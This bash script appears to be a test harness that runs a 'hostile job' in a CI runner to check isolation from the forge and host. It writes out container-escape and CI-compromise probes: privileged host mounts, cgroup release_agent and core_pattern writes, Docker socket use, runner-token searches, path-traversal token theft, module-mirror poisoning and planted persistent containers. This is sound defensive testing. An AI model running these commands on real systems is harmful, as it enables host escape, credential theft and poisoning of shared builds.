#!/usr/bin/env bash
# The probes of a hostile job. target.sh, which the test writes, tells them where their
# targets are; a real attacker would have to find out.
#
# shellcheck disable=SC1091 # written by the test
# shellcheck disable=SC2016 # for the inner shells to expand
source ./target.sh

# probe NAME FUNCTION prints whether the function reached its target. One that did not end in time
# proves nothing.
probe() {
  local name=$1 answer status=0
  answer=$(timeout 60 bash -o pipefail -c "$2" 2>&1) || status=$?
  case $status in
    0) echo "PROBE $name reached" ;;
    124) echo "PROBE $name unknown" ;;
    *) echo "PROBE $name refused" ;;
  esac
  tail -n 3 <<< "$answer" | while read -r line; do echo "  $name: $line"; done
}

# With as many privileges as possible: some hosts refuse --privileged.
privileged() {
  docker run --rm --privileged --pid host "$@" ||
    docker run --rm --cap-add ALL --cap-drop SYS_RESOURCE --security-opt seccomp=unconfined --security-opt apparmor=unconfined --pid host "$@"
}
has_canary() { grep -qx "$CANARY"; }

sees_the_forge() { docker ps --all --format '{{.Names}}' | grep -qx "$FORGE_CONTAINER"; }
stops_a_forge_container() { docker kill --signal CONT "$FORGE_CONTAINER"; }
host_socket() { docker run --rm --volume /var/run/docker.sock:/x.sock "$JOB_IMAGE" docker --host unix:///x.sock inspect "$FORGE_CONTAINER"; }
privileged_on_host() { privileged --volume /:/host "$JOB_IMAGE" cat "/host$CANARY_FILE" | has_canary; }
bind_mount() { docker run --rm --volume "$(dirname "$CANARY_FILE"):/x" "$JOB_IMAGE" cat /x/canary | has_canary; }
root_of_pid_one() { privileged "$JOB_IMAGE" cat "/proc/1/root$CANARY_FILE" | has_canary; }
host_disk() {
  privileged "$JOB_IMAGE" sh -c "mknod /d b $DISK && mkdir /m && mount -t $DISK_TYPE -o ro /d /m || mount -t $DISK_TYPE /d /m && cat /m$CANARY_FILE" | has_canary
}
# Writes back what is there, so that nothing changes if the probe succeeds.
release_agent() {
  privileged "$JOB_IMAGE" sh -c 'mkdir /m && mount -t cgroup -o memory c /m && agent=$(cat /m/release_agent) && echo "$agent" > /m/release_agent'
}
all_devices() {
  privileged "$JOB_IMAGE" sh -c 'mkdir /m && mount -t cgroup -o devices c /m && echo "c 1:3 rwm" > /m/devices.allow'
}
core_pattern() {
  privileged "$JOB_IMAGE" sh -c 'pattern=$(cat /proc/sys/kernel/core_pattern) && echo "$pattern" > /proc/sys/kernel/core_pattern'
}
kernel_module() { privileged --volume /dev:/hostdev "$JOB_IMAGE" sh -c 'head -c 1 /hostdev/mem || head -c 1 /hostdev/kmsg'; }
forge_database() { docker run --rm --volume "$VOLUMES-forge-data:/x" "$JOB_IMAGE" test -s /x/data/gitea.db; }
forge_app_ini() { docker run --rm --volume "$VOLUMES-forge-config:/x" "$JOB_IMAGE" test -s /x/app.ini; }
runner_credential() {
  privileged --volume /:/host "$JOB_IMAGE" sh -c '
    find "/host$0/volumes" /host /proc/[0-9]*/root \( -name .runner -o -name runner-token \) -print -quit 2> /dev/null | grep -q .' \
    "$(docker info --format '{{.DockerRootDir}}')"
}
engine_control() { privileged --volume /run/engine:/x "$JOB_IMAGE" sh -c 'ls /x/control || ls /x/engines'; }
# The next job engine, which is prepared while this job runs: both ends of its link. The loop
# gives it time to start.
next_engine() {
  local own other port
  own=$(awk '$1 == "nameserver" { print $2; exit }' /etc/resolv.conf)
  case $own in
    198.18.0.1) other=198.18.0.5 ;;
    198.18.0.5) other=198.18.0.1 ;;
    *) return 1 ;; # not on a job engine
  esac
  timeout 3 bash -c "exec 3<> /dev/tcp/$own/53" || return 0 # reported as reached: without its own end, this probe proves nothing
  for _ in {1..6}; do
    for port in 53 "${REGISTRY##*:}" 2375; do
      for address in $other "${other%.*}.$((${other##*.} + 1))"; do
        if timeout 0.5 bash -c "exec 3<> /dev/tcp/$address/$port"; then return; fi
      done
    done
    sleep 0.3
  done
  return 1
}
# Directories of the outer half, which are hidden from the inner half: they may contain data of
# other jobs, and a job could leave something there for them. The Docker host has none.
outer_half() {
  privileged "$JOB_IMAGE" nsenter --target 1 --mount unshare --mount sh -c '
    [ -e /usr/local/bin/jobengine ] || exit 1
    touch /dev/shm/planted && exit
    for hidden in /engine /usr/local/share/engine /tmp /run; do
      umount --lazy $hidden && touch $hidden/planted && exit
    done
    find /engine /run/engine/control /run/engine/engines /usr/local/share/engine/stock -mindepth 1 | grep -q .'
}
# Where runners give jobs their access to the cache of workflows, by the forge's own address.
cache_leases() { timeout 3 bash -c "exec 3<> /dev/tcp/$FORGE_ADDRESS/31009"; }
# The mirror of Go modules, which serves all jobs: its content, and files beside it.
poisons_modules() {
  local mirror=${ACTIONS_CACHE_URL:-http://$FORGE_ADDRESS:31008/}go-modules method path
  for method in PUT POST PATCH; do
    curl --silent --fail --request $method --data 'module example.org/m' "$mirror/example.org/m/@v/v1.0.0.mod" && return
  done
  for path in "" /example.org/m/@v; do
    curl --silent --fail --location --path-as-is "$mirror$path/../../../../../../../../etc/gitea/app.ini" | grep INTERNAL_TOKEN && return
  done
  false
}
# The cache's entries of others, with the job's own token and without one.
other_caches() {
  local cache=${ACTIONS_CACHE_URL:-http://$FORGE_ADDRESS:31008/}_apis/artifactcache
  curl --silent --fail "$cache/downloads/1" || curl --silent --fail "$cache/cache?keys=k&version=v" ||
    curl --silent --fail --header "Authorization: Bearer $GITHUB_TOKEN" "$cache/cache?keys=k&version=v"
}
other_secret() { [ -n "$OTHER_SECRET" ]; }
other_repository() {
  curl --silent --fail --header "Authorization: token $GITHUB_TOKEN" "$FORGE_URL/api/v1/repos/gitops/victim/contents" ||
    git -c "http.extraheader=Authorization: token $GITHUB_TOKEN" ls-remote "$FORGE_URL/gitops/victim.git" refs/heads/main
}
admin_api() { curl --silent --fail --header "Authorization: token $GITHUB_TOKEN" "$FORGE_URL/api/v1/admin/users"; }
other_login() { find / /root -xdev -path '*/.docker/config.json' -exec grep -q auth {} \; -print 2> /dev/null | grep -q .; }
other_packages() {
  docker tag "$JOB_IMAGE" "$REGISTRY/gitops/service:hostile" &&
    docker login "$REGISTRY" --username mallory --password-stdin <<< "$GITHUB_TOKEN" && docker push "$REGISTRY/gitops/service:hostile"
}
host_loopback() { docker run --rm --network host "$JOB_IMAGE" curl --silent --max-time 3 "http://127.0.0.1:$LOOPBACK_PORT" | has_canary; }
host_addresses() {
  local address
  for address in $HOST_ADDRESSES $(awk '$2 == "00000000" { print $3 }' /proc/net/route | sed 's/\(..\)\(..\)\(..\)\(..\)/0x\4.0x\3.0x\2.0x\1/'); do
    if docker run --rm --network host "$JOB_IMAGE" curl --silent --max-time 3 "http://$address:$OPEN_PORT" | has_canary; then return; fi
  done
  return 1
}

# shellcheck disable=SC2046 # one name each
export -f $(compgen -A function) # for the shell below timeout
probe see-the-forge sees_the_forge
probe stop-the-forge stops_a_forge_container
probe host-socket host_socket
probe privileged-on-host privileged_on_host
probe bind-mount bind_mount
probe root-of-pid-1 root_of_pid_one
probe host-disk host_disk
probe cgroup-release-agent release_agent
probe cgroup-devices all_devices
probe kernel-core-pattern core_pattern
probe kernel-memory kernel_module
probe forge-database forge_database
probe forge-app-ini forge_app_ini
probe runner-credential runner_credential
probe engine-control engine_control
probe outer-half outer_half
probe next-engine next_engine
probe cache-leases cache_leases
probe other-caches other_caches
probe poison-modules poisons_modules
probe other-secret other_secret
probe other-repository other_repository
probe admin-api admin_api
probe other-login other_login
probe other-packages other_packages
probe host-loopback host_loopback
probe host-addresses host_addresses

# What it leaves behind for the next job: see remains.sh.
if [ -n "$PLANT" ]; then
  docker run --detach --restart always --name planted "$JOB_IMAGE" sleep 1000 > /dev/null
  docker run --rm --volume planted:/x "$JOB_IMAGE" touch /x/planted
  docker run --rm --volume go-build:/x "$JOB_IMAGE" touch /x/planted
  printf 'FROM %s\nRUN touch /planted\n' "$JOB_IMAGE" | docker build --quiet --tag "$JOB_IMAGE" - > /dev/null
  privileged --detach --network host "$JOB_IMAGE" sh -c 'exec -a planted sleep 1000' > /dev/null
  setsid nohup sleep 1001 > /dev/null 2>&1 &
  touch ~/planted /tmp/planted
  echo planted
fi
